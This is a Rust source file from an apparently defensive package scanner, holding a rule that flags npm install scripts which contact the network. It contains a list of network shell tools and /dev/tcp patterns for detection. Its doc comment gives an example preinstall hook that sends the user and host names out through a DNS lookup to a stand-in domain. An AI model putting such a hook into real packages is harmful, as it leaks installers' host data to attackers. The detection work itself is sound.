use ossprey_model::{Category, Finding, Severity};

use super::common::install_commands;
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds npm install scripts (and the shell files they run) that contact the network
/// directly: `curl`/`wget` to a URL, `nslookup`/`dig`/`host`/`ping` of a name,
/// `nc`/`telnet` to a host, or a redirect to `/dev/tcp/…`. When the URL, name or
/// message embeds a command substitution or an environment variable
/// (`$(whoami)`, `` `hostname` ``, `$HOME`) it is critical.
///
/// ## Why is this bad?
/// An install script that phones home is the dependency-confusion probe: it tells the
/// attacker which machines installed the package, often carrying the user name, host
/// name or working directory in the URL or DNS name. Build scripts fetch artefacts
/// through their tooling, not with ad-hoc network commands that report on the host.
///
/// ## Example
/// ```json
/// { "scripts": { "preinstall": "nslookup $(whoami).$(hostname).example.invalid" } }
/// ```
#[derive(Debug)]
pub struct HookNetwork;

const NET_TOOLS: &[&str] = &[
    "curl", "wget", "nslookup", "dig", "host", "ping", "nc", "ncat", "netcat", "telnet", "drill",
    "socat",
];

fn embeds_data(word: &str) -> bool {
    word.contains("$(") || word.contains('`') || word.contains('$')
}

impl Rule for HookNetwork {
    fn id(&self) -> &'static str {
        "NPM-HOOK-NETWORK"
    }
    fn category(&self) -> Category {
        Category::NETWORK
    }
    fn summary(&self) -> &'static str {
        "npm install script contacts the network directly"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for script in install_commands(input) {
            let mut best: Option<(Severity, String, u32)> = None;
            for c in &script.shell.commands {
                let Some(first) = c.argv.first() else {
                    continue;
                };
                let program = first
                    .rsplit('/')
                    .next()
                    .unwrap_or(first)
                    .to_ascii_lowercase();
                let dev_socket = c
                    .redirects
                    .iter()
                    .map(|r| r.target.as_str())
                    .chain(c.argv.iter().map(String::as_str))
                    .find(|w| w.contains("/dev/tcp/") || w.contains("/dev/udp/"));
                let target = if let Some(sock) = dev_socket {
                    Some(sock.to_owned())
                } else if NET_TOOLS.contains(&program.as_str()) {
                    c.argv[1..]
                        .iter()
                        .find(|a| !a.starts_with('-') && (a.contains('.') || a.contains("://")))
                        .cloned()
                } else {
                    None
                };
                let Some(target) = target else { continue };
                // Data about the host in the request: a substitution or a variable in any word.
                let carries = c.argv.iter().any(|w| embeds_data(w))
                    || c.redirects.iter().any(|r| embeds_data(&r.target))
                    || c.depth > 0;
                let severity = if carries {
                    Severity::Critical
                } else {
                    Severity::High
                };
                if best.as_ref().is_none_or(|b| severity > b.0) {
                    best = Some((severity, format!("`{program}` to `{target}`"), c.line));
                }
            }
            if let Some((severity, what, line)) = best {
                let suffix = if severity == Severity::Critical {
                    ", carrying host data from a substitution or variable"
                } else {
                    ""
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!("`{}` contacts the network: {what}{suffix}", script.name),
                    Some(script.path),
                    script.line.or(Some(line)),
                    Some(&script.command),
                ));
            }
        }
    }
}
